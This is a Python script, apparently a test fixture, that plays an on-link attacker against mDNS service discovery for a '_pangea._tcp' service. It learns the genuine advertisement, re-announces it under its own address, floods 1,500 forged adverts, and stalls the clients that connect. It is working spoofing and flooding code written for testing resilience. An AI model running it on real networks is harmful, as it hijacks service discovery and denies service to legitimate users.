"""An attacker on the link: 1,500 forged adverts, and a copy of the true one.

Runs only inside a namespace that a test has made. It learns the true advertisement,
says it again with its own address, and lets whoever connects there wait for ever.
"""

import asyncio
import secrets
import socket
import sys

from zeroconf import (
    DNSAddress,
    DNSOutgoing,
    DNSPointer,
    DNSService,
    DNSText,
    InterfaceChoice,
    IPVersion,
    ServiceStateChange,
)
from zeroconf.asyncio import AsyncServiceBrowser, AsyncServiceInfo, AsyncZeroconf

TYPE = "_pangea._tcp.local."
GROUP = ("224.0.0.251", 5353)
ANSWER, IN, UNIQUE, TTL = 0x8400, 1, 0x8001, 4500
A, PTR, TXT, SRV = 1, 12, 16, 33
ALPHABET = "abcdefghijklmnopqrstuvwxyz234567"


def advert(name, address, port, text):
    """Return the packet that advertises *name*."""
    out = DNSOutgoing(ANSWER)
    full, host = f"{name}.{TYPE}", f"{name}.local."
    out.add_answer_at_time(DNSPointer(TYPE, PTR, IN, TTL, full), 0)
    out.add_answer_at_time(DNSService(full, SRV, UNIQUE, TTL, 0, 0, port, host), 0)
    out.add_answer_at_time(DNSText(full, TXT, UNIQUE, TTL, text), 0)
    packed = socket.inet_aton(address)
    out.add_answer_at_time(DNSAddress(host, A, UNIQUE, TTL, packed), 0)
    return out.packets()[0]


def word():
    return "p-" + "".join(secrets.choice(ALPHABET) for _ in range(8))


def forged(own, true_text):
    """Return 1,500 packets: other tags, and the true tag under other names."""
    for number in range(1500):
        tag = b"t=" + secrets.token_hex(8).encode()
        text = true_text if number % 3 == 0 else bytes([len(tag)]) + tag
        text = text if number % 3 == 0 else b"\x03v=1\x03r=c" + text
        port = (7464, 80, 1024 + number)[number % 3]
        where = (own, "192.0.2.66", "10.78.0.1")[number % 3]
        yield advert(word(), where, port, text)


async def learn(own):
    """Return name, port and TXT of the true coordinator."""
    found = asyncio.get_running_loop().create_future()

    def heard(zeroconf, service_type, name, state_change):
        if state_change is ServiceStateChange.Added:
            tasks.append(asyncio.create_task(look(name)))

    async def look(name):
        info = AsyncServiceInfo(TYPE, name)
        if await info.async_request(browser.zeroconf, 3000) and not found.done():
            found.set_result((name.removesuffix("." + TYPE), info.port, info.text))

    tasks = []
    browser = AsyncZeroconf(interfaces=InterfaceChoice.All, ip_version=IPVersion.V4Only)
    AsyncServiceBrowser(browser.zeroconf, TYPE, handlers=[heard])
    async with asyncio.timeout(15):
        true = await found
    await browser.async_close()
    return true


async def hang(reader, writer):
    print("met", flush=True)
    await reader.read()
    writer.close()


async def main(own):
    name, port, text = await learn(own)
    await asyncio.start_server(hang, own, port)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.bind(("", 5353))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    copy = advert(name, own, port, text)
    packets = list(forged(own, text))
    print("ready", flush=True)
    for _ in range(6):
        for number, packet in enumerate(packets):
            sock.sendto(packet, GROUP)
            if number % 50 == 0:
                sock.sendto(copy, GROUP)
                await asyncio.sleep(0.04)
    print("spent", flush=True)
    await asyncio.to_thread(sys.stdin.read)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
